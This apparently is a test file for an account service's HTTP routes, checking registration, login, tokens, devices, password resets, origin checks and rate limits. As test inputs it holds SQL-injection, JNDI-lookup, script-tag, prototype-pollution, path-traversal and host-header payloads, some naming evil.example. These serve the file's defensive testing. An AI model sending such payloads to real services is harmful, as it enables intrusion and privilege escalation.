/** The routes of accounts in one process, with a clock that the test turns. */
import { describe, expect, test } from 'vitest'
import type { AccountsOptions } from '../accounts/accounts.ts'
import { attemptRates } from '../accounts/attempt-limits.ts'
import type { Mail } from '../accounts/mailer.ts'
import { goodPassword, hour, minute, openTestAccounts, otherPassword, second } from '../testing/accounts.ts'
import { memoryLog, type LogLine } from '../testing/memory-log.ts'
import { until } from '../testing/poll.ts'
import { createAuthApp, type AuthOptions } from './auth-routes.ts'

interface Answer {
  readonly status: number
  readonly headers: Headers
  readonly body: Record<string, unknown>
}

interface Request {
  readonly body?: unknown
  readonly token?: string
  readonly from?: string
  readonly headers?: Readonly<Record<string, string>>
}

const create = async (options: Partial<AccountsOptions> = {}, authOptions: Partial<AuthOptions> = {}) => {
  const tested = await openTestAccounts(options)
  const mails: Mail[] = []
  const lines: LogLine[] = []
  const { app, info } = createAuthApp({
    accounts: tested.accounts,
    isAllowed: (headers) => headers.get('origin') !== 'https://evil.example',
    mail: { send: (mail) => mails.push(mail), publicUrl: 'https://notes.example.org' },
    providerSignIns: undefined,
    peerAddress: (context) => context.req.header('x-test-peer') ?? '192.0.2.1',
    trustedProxies: 0,
    health: () => tested.storage.health,
    log: memoryLog(lines),
    now: tested.clock.now,
    ...authOptions,
  })
  const ask = async (line: string, { body, token, from, headers }: Request = {}): Promise<Answer> => {
    const [method = '', path = ''] = line.split(' ')
    const response = await app.request(path, {
      method,
      headers: {
        ...(body === undefined ? {} : { 'content-type': 'application/json' }),
        ...(token === undefined ? {} : { authorization: `Bearer ${token}` }),
        ...(from === undefined ? {} : { 'x-test-peer': from }),
        ...headers,
      },
      ...(body === undefined ? {} : { body: typeof body === 'string' ? body : JSON.stringify(body) }),
    })
    const text = await response.text()
    return {
      status: response.status,
      headers: response.headers,
      body: text === '' ? {} : (JSON.parse(text) as Record<string, unknown>),
    }
  }
  return { ...tested, ask, info, mails, lines }
}

type Relay = Awaited<ReturnType<typeof create>>

const codeOf = ({ status, body }: Answer): [number, unknown] => [
  status,
  (body['error'] as { code?: string } | undefined)?.code,
]
const ada = { email: 'ada@example.org', password: goodPassword }

interface Signed {
  readonly user: { readonly user_id: string; readonly role: string }
  readonly tokens: { readonly access: string; readonly refresh: string; readonly expires_in: number }
  readonly space: string
  readonly device_id: string
}

const signedIn = (answer: Answer): Signed => {
  expect([200, 201]).toContain(answer.status)
  return answer.body as unknown as Signed
}

const register = async ({ ask }: Relay, more: object = {}): Promise<Signed> =>
  signedIn(await ask('POST /register', { body: { ...ada, ...more } }))

describe('shapes', () => {
  test('register answers 201 with the account, its user, tokens, space and device', async () => {
    const { ask, clock } = await create()
    const answer = await ask('POST /register', { body: { ...ada, name: 'Ada', device_name: 'Laptop' } })
    expect(answer.status).toBe(201)
    const id = expect.stringMatching(/^[0-9a-f-]{36}$/) as string
    expect(answer.body).toEqual({
      user_id: id,
      email: ada.email,
      name: 'Ada',
      created_at: clock.ms,
      user: { user_id: id, email: ada.email, name: 'Ada', role: 'admin', created_at: clock.ms },
      tokens: { access: expect.any(String) as string, refresh: expect.any(String) as string, expires_in: 3_600 },
      space: id,
      device_id: id,
    })
  })

  test('login and refresh answer 200 with user, tokens, space and device', async () => {
    const relay = await create()
    const registered = await register(relay)
    const login = signedIn(await relay.ask('POST /login', { body: { ...ada, device_id: registered.device_id } }))
    const refresh = signedIn(await relay.ask('POST /refresh', { body: { refresh_token: login.tokens.refresh } }))
    for (const answer of [login, refresh]) {
      expect(Object.keys(answer).sort()).toEqual(['device_id', 'space', 'tokens', 'user'])
      const { user, space, device_id } = registered
      expect(answer).toMatchObject({ user, space, device_id, tokens: { expires_in: 3_600 } })
    }
  })

  test('me, settings and devices', async () => {
    const relay = await create()
    const { tokens, user, space, device_id } = await register(relay, { device_name: 'Laptop' })
    const token = tokens.access
    expect((await relay.ask('GET /me', { token })).body).toEqual({
      user,
      space,
      settings: {},
      device_id,
      has_password: true,
      identities: [],
    })
    const changed = await relay.ask('PATCH /me', { token, body: { name: 'Ada', settings: { theme: 'dark' } } })
    expect(changed.body).toMatchObject({ user: { name: 'Ada' }, settings: { theme: 'dark' } })
    const phone = signedIn(await relay.ask('POST /login', { body: { ...ada, device_name: 'Phone' } }))
    const path = `/devices/${phone.device_id}`
    expect((await relay.ask(`PATCH ${path}`, { token, body: { name: 'Old phone' } })).status).toBe(204)
    expect((await relay.ask('GET /devices', { token })).body).toEqual({
      devices: expect.arrayContaining([
        expect.objectContaining({ device_id, name: 'Laptop', is_this_device: true }),
        expect.objectContaining({ device_id: phone.device_id, name: 'Old phone', is_this_device: false }),
      ]) as unknown,
    })
    expect((await relay.ask(`DELETE ${path}`, { token })).status).toBe(204)
    expect(codeOf(await relay.ask('GET /me', { token: phone.tokens.access }))).toEqual([401, 'TOKEN_INVALID'])
    expect(codeOf(await relay.ask(`DELETE ${path}`, { token }))).toEqual([404, 'NOT_FOUND'])
  })

  test('a device joins with a code that another one shows', async () => {
    const relay = await create()
    const { tokens, user } = await register(relay)
    const made = await relay.ask('POST /join-codes', { token: tokens.access })
    expect([made.status, made.body['expires_at']]).toEqual([201, relay.clock.ms + 5 * minute])
    const joined = await relay.ask('POST /join', { body: { code: made.body['code'], device_name: 'Phone' } })
    expect(signedIn(joined).user).toEqual(user)
  })

  test('a new password: changed with the old one, or reset by mail', async () => {
    const relay = await create()
    const { tokens } = await register(relay, { name: 'Ada\u00a0L.' })
    const body = { current_password: goodPassword, new_password: otherPassword }
    const changed = await relay.ask('POST /change-password', { token: tokens.access, body })
    expect([changed.status, Object.keys(changed.body)]).toEqual([200, ['tokens']])
    const asked = await relay.ask('POST /forgot-password', { body: { email: 'Ada@Example.org' } })
    expect([asked.status, asked.body]).toEqual([202, { status: 'accepted' }])
    await until('a mail is sent', () => relay.mails.length > 0)
    const [mail] = relay.mails
    expect(mail?.to).toBe(ada.email)
    const token = /https:\/\/notes\.example\.org\/reset-password#code=(\S+)/.exec(mail?.text ?? '')?.[1]
    const reset = await relay.ask('POST /reset-password', { body: { token, new_password: goodPassword } })
    expect(reset.status).toBe(204)
    signedIn(await relay.ask('POST /login', { body: ada }))
  })

  const [english, chinese] = ['choose a new password', '重设密码']
  test.each([
    ['zh', 'en-US,en;q=0.9', chinese],
    ['en', 'zh-CN,zh;q=0.9', english],
    ['system', 'zh-CN,zh;q=0.9,en;q=0.8', chinese],
    ['system', 'de-AT,de;q=0.9,zh-TW;q=0.8,en;q=0.7', chinese],
    ['system', 'en-GB,en;q=0.9,zh;q=0.8', english],
    ['system', 'kazhen', english],
    [undefined, 'zh', chinese],
    [undefined, undefined, english],
  ])('set to %s in a browser that asks for %s, the mail says: %s', async (language, accepted, subject) => {
    const relay = await create()
    const { tokens } = await register(relay)
    if (language !== undefined) await relay.ask('PATCH /me', { token: tokens.access, body: { settings: { language } } })
    const headers: Record<string, string> = accepted === undefined ? {} : { 'accept-language': accepted }
    await relay.ask('POST /forgot-password', { body: { email: ada.email }, headers })
    await until('a mail is sent', () => relay.mails.length > 0)
    expect(relay.mails[0]?.subject).toContain(subject)
  })

  test('an account ends with its password', async () => {
    const relay = await create()
    const { tokens } = await register(relay)
    const token = tokens.access
    const wrong = await relay.ask('DELETE /me', { token, body: { password: otherPassword } })
    expect(codeOf(wrong)).toEqual([403, 'WRONG_PASSWORD'])
    expect((await relay.ask('DELETE /me', { token, body: { password: goodPassword } })).status).toBe(204)
    expect(codeOf(await relay.ask('GET /me', { token }))).toEqual([401, 'TOKEN_INVALID'])
    expect(codeOf(await relay.ask('POST /login', { body: ada }))).toEqual([401, 'INVALID_CREDENTIALS'])
  })

  test('signing out takes either token, also an expired one, and twice is as good as once', async () => {
    const relay = await create()
    for (const how of ['access', 'refresh', 'expired'] as const) {
      const email = `${how}@example.org`
      const { tokens } = await register(relay, { email })
      if (how === 'expired') relay.clock.pass(2 * hour)
      const request = how === 'refresh' ? { body: { refresh_token: tokens.refresh } } : { token: tokens.access }
      for (let turn = 0; turn < 2; turn++) expect((await relay.ask('POST /logout', request)).status).toBe(204)
      const after = await relay.ask('POST /refresh', { body: { refresh_token: tokens.refresh } })
      expect(codeOf(after)).toEqual([401, 'TOKEN_INVALID'])
    }
    expect((await relay.ask('POST /logout')).status).toBe(204)
    expect((await relay.ask('POST /logout', { token: 'nonsense' })).status).toBe(204)
  })

  test('what the relay says of itself', async () => {
    const { ask, info } = await create({ registration: 'invite' }, { mail: undefined })
    expect(info()).toEqual({ registration: 'invite', isFresh: true, resetByMail: false })
    await ask('POST /register', { body: ada })
    expect(info().isFresh).toBe(false)
    expect(codeOf(await ask('POST /forgot-password', { body: { email: ada.email } }))).toEqual([
      501,
      'MAIL_NOT_CONFIGURED',
    ])
  })
})

describe('refusals', () => {
  test.each<[string, string, Request, number, string]>([
    ['an address that has an account', 'POST /register', { body: ada }, 409, 'EMAIL_EXISTS'],
    ['a wrong password', 'POST /login', { body: { ...ada, password: 'x' } }, 401, 'INVALID_CREDENTIALS'],
    ['an unknown address', 'POST /login', { body: { ...ada, email: 'no@example.org' } }, 401, 'INVALID_CREDENTIALS'],
    ['no body', 'POST /login', {}, 422, 'VALIDATION_FAILED'],
    ['an array', 'POST /login', { body: [] }, 422, 'VALIDATION_FAILED'],
    ['null', 'POST /login', { body: 'null' }, 422, 'VALIDATION_FAILED'],
    ['no JSON', 'POST /login', { body: '{"email":' }, 400, 'BAD_REQUEST'],
    ['deep nesting', 'POST /login', { body: '['.repeat(8_000) + ']'.repeat(8_000) }, 422, 'VALIDATION_FAILED'],
    [
      'a form',
      'POST /login',
      { body: 'a=b', headers: { 'content-type': 'text/plain' } },
      415,
      'UNSUPPORTED_MEDIA_TYPE',
    ],
    ['a huge body', 'POST /login', { body: { ...ada, name: 'x'.repeat(20_000) } }, 413, 'PAYLOAD_TOO_LARGE'],
    ['a number for an address', 'POST /login', { body: { ...ada, email: 7 } }, 422, 'VALIDATION_FAILED'],
    ['an object for a password', 'POST /login', { body: { ...ada, password: { $ne: '' } } }, 422, 'VALIDATION_FAILED'],
    ['a short password', 'POST /register', { body: { ...ada, password: 'seven77' } }, 422, 'VALIDATION_FAILED'],
    ['a common password', 'POST /register', { body: { ...ada, password: 'Password1' } }, 422, 'VALIDATION_FAILED'],
    [
      'the address as password',
      'POST /register',
      { body: { ...ada, password: ada.email } },
      422,
      'PASSWORD_TOO_SIMILAR',
    ],
    ['a wrong invite', 'POST /register', { body: { ...ada, invite: '../x' } }, 422, 'VALIDATION_FAILED'],
    ['a wrong device', 'POST /login', { body: { ...ada, device_id: 'my device' } }, 422, 'VALIDATION_FAILED'],
    ['no refresh token', 'POST /refresh', { body: {} }, 422, 'VALIDATION_FAILED'],
    ['a made-up refresh token', 'POST /refresh', { body: { refresh_token: 'x' } }, 401, 'TOKEN_INVALID'],
    [
      'a made-up reset',
      'POST /reset-password',
      { body: { token: 'x', new_password: goodPassword } },
      400,
      'CODE_INVALID',
    ],
    ['a made-up code', 'POST /join', { body: { code: '12345678' } }, 400, 'CODE_INVALID'],
    ['a code that is none', 'POST /join', { body: { code: '1234 5678' } }, 422, 'VALIDATION_FAILED'],
    ['no token', 'GET /me', {}, 401, 'AUTH_REQUIRED'],
    ['no token', 'GET /devices', {}, 401, 'AUTH_REQUIRED'],
    ['no token', 'PATCH /me', { body: {} }, 401, 'AUTH_REQUIRED'],
    ['no token', 'DELETE /me', { body: { password: goodPassword } }, 401, 'AUTH_REQUIRED'],
    ['no token', 'POST /join-codes', {}, 401, 'AUTH_REQUIRED'],
    ['no token', 'POST /change-password', { body: {} }, 401, 'AUTH_REQUIRED'],
    ['no token', 'DELETE /devices/x', {}, 401, 'AUTH_REQUIRED'],
    ['a token that is none', 'GET /me', { token: 'x' }, 401, 'TOKEN_INVALID'],
    ['another scheme', 'GET /me', { headers: { authorization: 'Basic YTpi' } }, 401, 'AUTH_REQUIRED'],
    ['a token in the address', 'GET /me?token=x', {}, 401, 'AUTH_REQUIRED'],
  ])('%s, %s', async (_, line, request, status, code) => {
    const relay = await create()
    await register(relay)
    const answer = await relay.ask(line, request)
    expect(codeOf(answer)).toEqual([status, code])
    expect(answer.body).toEqual({
      error: { code, message: expect.stringMatching(/\S/) as string, details: expect.any(Object) as object },
    })
    if (status === 401) expect(answer.headers.get('www-authenticate')).toMatch(/^Bearer/)
    expect(relay.lines).toEqual([])
  })

  test('fields that are wrong are named, each with a reason', async () => {
    const { ask } = await create()
    const answer = await ask('POST /register', { body: { email: 'x', password: 'x', name: 'a\nb', device_id: '7' } })
    const { details } = answer.body['error'] as { details: { fields: Record<string, string> } }
    expect(Object.keys(details.fields).sort()).toEqual(['device_id', 'email', 'name', 'password'])
  })

  test('an expired token says so, since refreshing helps', async () => {
    const relay = await create()
    const { tokens } = await register(relay)
    relay.clock.pass(2 * hour)
    expect(codeOf(await relay.ask('GET /me', { token: tokens.access }))).toEqual([401, 'TOKEN_EXPIRED'])
  })

  test.each(['closed', 'invite'] as const)('when registration is %s', async (registration) => {
    const relay = await create({ registration })
    await register(relay)
    const body = { email: 'ben@example.org', password: goodPassword }
    const code = registration === 'closed' ? 'REGISTRATION_CLOSED' : 'INVITE_REQUIRED'
    expect(codeOf(await relay.ask('POST /register', { body }))).toEqual([403, code])
    const { code: invite } = await relay.accounts.createInvite(undefined, {})
    const invited = await relay.ask('POST /register', { body: { ...body, invite } })
    expect(invited.status).toBe(registration === 'closed' ? 403 : 201)
  })

  test('while the disk takes nothing, nothing is changed and signed-in devices can still read', async () => {
    const relay = await create()
    const { tokens } = await register(relay)
    relay.writes.failWrites(Infinity)
    void relay.storage.write([{ key: ['x'], value: Buffer.of(1) }]).catch(() => undefined)
    await until('storage fails', () => relay.storage.health.state === 'failing')
    const answer = await relay.ask('POST /login', { body: ada })
    expect([...codeOf(answer), answer.headers.get('retry-after')]).toEqual([503, 'CANNOT_STORE', '2'])
    expect((await relay.ask('GET /me', { token: tokens.access })).status).toBe(200)
    relay.writes.failWrites(0)
    await until('storage works', () => relay.storage.health.state === 'ok')
    signedIn(await relay.ask('POST /login', { body: ada }))
  })
})

describe('somebody else’s', () => {
  test('devices can be neither seen, renamed nor revoked', async () => {
    const relay = await create()
    const mine = await register(relay)
    const eve = await register(relay, { email: 'eve@example.org' })
    const token = eve.tokens.access
    const paths = [
      mine.device_id,
      encodeURIComponent(`${mine.user.user_id}/${mine.device_id}`),
      `..%2f${mine.device_id}`,
      '%00',
      '__proto__',
    ]
    for (const id of paths) {
      expect((await relay.ask(`DELETE /devices/${id}`, { token })).status).toBe(404)
      expect((await relay.ask(`PATCH /devices/${id}`, { token, body: { name: 'x' } })).status).toBe(404)
    }
    const listed = (await relay.ask('GET /devices', { token })).body['devices'] as { device_id: string }[]
    expect(listed.map(({ device_id }) => device_id)).toEqual([eve.device_id])
    expect((await relay.ask('GET /me', { token: mine.tokens.access })).status).toBe(200)
  })

  test('rights cannot be had by asking for them', async () => {
    const relay = await create()
    await register(relay)
    const wishes = { role: 'admin', id: 'x', user_id: 'x', spaceId: 'x', space: 'x', passwordHash: 'x', createdAt: 0 }
    const eve = await register(relay, { email: 'eve@example.org', ...wishes })
    expect(eve.user.role).toBe('member')
    const body = `{"role":"admin","__proto__":{"role":"admin"},"settings":{"__proto__":{"role":"admin"}},"name":"Eve"}`
    const answer = await relay.ask('PATCH /me', { token: eve.tokens.access, body })
    const me = (await relay.ask('GET /me', { token: eve.tokens.access })).body
    expect([200, 422]).toContain(answer.status)
    expect(me).toMatchObject({ user: { role: 'member', user_id: eve.user.user_id }, space: eve.space, settings: {} })
  })
})

describe('texts that mean something elsewhere', () => {
  test.each([
    "Robert'); DROP TABLE accounts;--",
    '${jndi:ldap://evil.example}',
    '<script>alert(1)</script>',
    'driftless/account',
    '\u0001\u0002',
    '__proto__',
    'ada@example.org, eve@example.org',
  ])('%j is a name or is refused, and nothing else', async (text) => {
    const relay = await create()
    const answer = await relay.ask('POST /register', {
      body: { ...ada, name: text, device_name: text, password: `${text}12345678` },
    })
    if (answer.status === 422) return
    const { tokens } = signedIn(answer)
    expect((await relay.ask('GET /me', { token: tokens.access })).body).toMatchObject({ user: { name: text } })
    expect((await relay.ask('GET /devices', { token: tokens.access })).body).toMatchObject({
      devices: [{ name: text }],
    })
    signedIn(await relay.ask('POST /login', { body: { ...ada, password: `${text}12345678` } }))
  })

  test('a host that the request names leads no link anywhere', async () => {
    const relay = await create()
    await register(relay)
    const headers = { host: 'evil.example', 'x-forwarded-host': 'evil.example', origin: 'https://other.example' }
    await relay.ask('POST /forgot-password', { body: { email: ada.email }, headers })
    await until('a mail is sent', () => relay.mails.length > 0)
    expect(relay.mails[0]?.text).not.toContain('evil')
  })
})

describe('pages', () => {
  test('of foreign origins are refused, whatever they ask', async () => {
    const relay = await create()
    const { tokens } = await register(relay)
    const headers = { origin: 'https://evil.example' }
    for (const [line, request] of [
      ['POST /login', { body: ada }],
      ['POST /register', { body: { ...ada, email: 'eve@example.org' } }],
      ['POST /logout', { body: { refresh_token: tokens.refresh } }],
      ['GET /me', { token: tokens.access }],
    ] as const) {
      const answer = await relay.ask(line, { ...request, headers })
      expect(codeOf(answer)).toEqual([403, 'origin-refused'])
      expect(answer.headers.get('access-control-allow-origin')).toBeNull()
    }
    expect((await relay.ask('GET /me', { token: tokens.access })).status).toBe(200)
  })

  test('of allowed ones may ask with a token, and no cookie is ever set or asked for', async () => {
    const { ask } = await create()
    const origin = 'https://notes.example.org'
    const preflight = await ask('OPTIONS /me', {
      headers: { origin, 'access-control-request-method': 'PATCH', 'access-control-request-headers': 'authorization' },
    })
    expect(preflight.headers.get('access-control-allow-origin')).toBe(origin)
    expect(preflight.headers.get('access-control-allow-methods')).toContain('DELETE')
    const answer = await ask('POST /register', { body: ada, headers: { origin, cookie: 'a=b' } })
    for (const { headers } of [preflight, answer]) {
      expect(headers.get('access-control-allow-credentials')).toBeNull()
      expect(headers.get('set-cookie')).toBeNull()
    }
  })
})

describe('tries are limited', () => {
  const wrong = { ...ada, password: 'not this one' }

  test('of passwords, per address and per account; right ones cost nothing', async () => {
    const relay = await create()
    await register(relay)
    for (let turn = 0; turn < 50; turn++) signedIn(await relay.ask('POST /login', { body: ada }))
    const { burst, everyMs } = attemptRates.passwordPerAccount
    for (let turn = 0; turn < burst; turn++)
      expect(codeOf(await relay.ask('POST /login', { body: wrong, from: `192.0.2.${turn}` }))[0]).toBe(401)
    const limited = await relay.ask('POST /login', { body: ada, from: '192.0.2.99' })
    expect([...codeOf(limited), limited.headers.get('retry-after')]).toEqual([
      429,
      'RATE_LIMITED',
      String(everyMs / second),
    ])
    relay.clock.pass(everyMs)
    signedIn(await relay.ask('POST /login', { body: ada, from: '192.0.2.99' }))
  })

  test('of passwords for an unknown address as for a known one', async () => {
    const relay = await create()
    await register(relay)
    const answersFor = async (email: string, network: string): Promise<unknown[]> => {
      const answers: unknown[] = []
      for (let turn = 0; turn < 15; turn++)
        answers.push(codeOf(await relay.ask('POST /login', { body: { ...wrong, email }, from: `${network}.${turn}` })))
      return answers
    }
    expect(await answersFor('nobody@example.org', '198.51.100')).toEqual(await answersFor(ada.email, '203.0.113'))
  })

  test('from one address over all accounts', async () => {
    const relay = await create()
    const statuses: number[] = []
    for (let turn = 0; turn < 30; turn++)
      statuses.push((await relay.ask('POST /login', { body: { ...wrong, email: `p${turn}@example.org` } })).status)
    expect(statuses.filter((status) => status === 401)).toHaveLength(attemptRates.passwordPerAddress.burst)
    const elsewhere = await relay.ask('POST /login', { body: wrong, from: '198.51.100.1' })
    expect(elsewhere.status).toBe(401)
  })

  test('also where they come at once', async () => {
    const relay = await create()
    await register(relay)
    const answers = await Promise.all(Array.from({ length: 30 }, () => relay.ask('POST /login', { body: wrong })))
    const guesses = answers.filter((answer) => codeOf(answer)[1] !== 'RATE_LIMITED')
    expect(guesses).toHaveLength(attemptRates.passwordPerAccount.burst)
  })

  test('of codes to join with', async () => {
    const relay = await create()
    const { tokens } = await register(relay)
    const { body } = await relay.ask('POST /join-codes', { token: tokens.access })
    const guess = body['code'] === '00000000' ? '00000001' : '00000000'
    for (let turn = 0; turn < 5; turn++)
      expect((await relay.ask('POST /join', { body: { code: guess } })).status).toBe(400)
    expect(codeOf(await relay.ask('POST /join', { body: { code: body['code'] } }))).toEqual([429, 'RATE_LIMITED'])
    signedIn(await relay.ask('POST /join', { body: { code: body['code'] }, from: '198.51.100.1' }))
  })

  test('of the present password, by whoever holds a device', async () => {
    const relay = await create()
    const { tokens } = await register(relay)
    const statuses: number[] = []
    for (let turn = 0; turn < 12; turn++) {
      const line = turn % 2 === 0 ? 'DELETE /me' : 'POST /change-password'
      const body = { password: 'wrong', current_password: 'wrong', new_password: otherPassword }
      statuses.push((await relay.ask(line, { token: tokens.access, body })).status)
    }
    expect(statuses).toEqual([...Array<number>(10).fill(403), 429, 429])
  })

  test('of mails to one person, from wherever they are asked for', async () => {
    const relay = await create()
    await register(relay)
    const statuses: number[] = []
    for (let turn = 0; turn < 5; turn++)
      statuses.push(
        (await relay.ask('POST /forgot-password', { body: { email: ada.email }, from: `192.0.2.${turn}` })).status,
      )
    expect(statuses).toEqual([202, 202, 202, 429, 429])
    await until('they are sent', () => relay.mails.length === 3)
  })

  test('of new accounts, and of what a device changes', async () => {
    const relay = await create()
    const statuses: number[] = []
    for (let turn = 0; turn < 25; turn++)
      statuses.push((await relay.ask('POST /register', { body: { ...ada, email: `p${turn}@example.org` } })).status)
    expect(statuses.filter((status) => status === 201)).toHaveLength(attemptRates.registerPerAddress.burst)
    const { tokens } = signedIn(await relay.ask('POST /login', { body: { ...ada, email: 'p0@example.org' } }))
    let done = 0
    while ((await relay.ask('PATCH /me', { token: tokens.access, body: { name: `n${done}` } })).status === 200) done++
    expect(done).toBe(attemptRates.changePerAccount.burst)
  })
})

test('a forgotten password has one answer for everybody, before anything is looked up', async () => {
  const relay = await create()
  await register(relay)
  relay.writes.hold()
  const answers: Answer[] = []
  for (const email of [ada.email, 'nobody@example.org'])
    // The known one’s code is not on disk yet, and cannot be.
    answers.push(await relay.ask('POST /forgot-password', { body: { email } }))
  expect(answers.map(({ status, body }) => [status, body])).toEqual([
    [202, { status: 'accepted' }],
    [202, { status: 'accepted' }],
  ])
  expect([...(answers[0]?.headers ?? [])]).toEqual([...(answers[1]?.headers ?? [])])
  relay.writes.release()
  await until('the one mail is sent', () => relay.mails.length === 1)
})
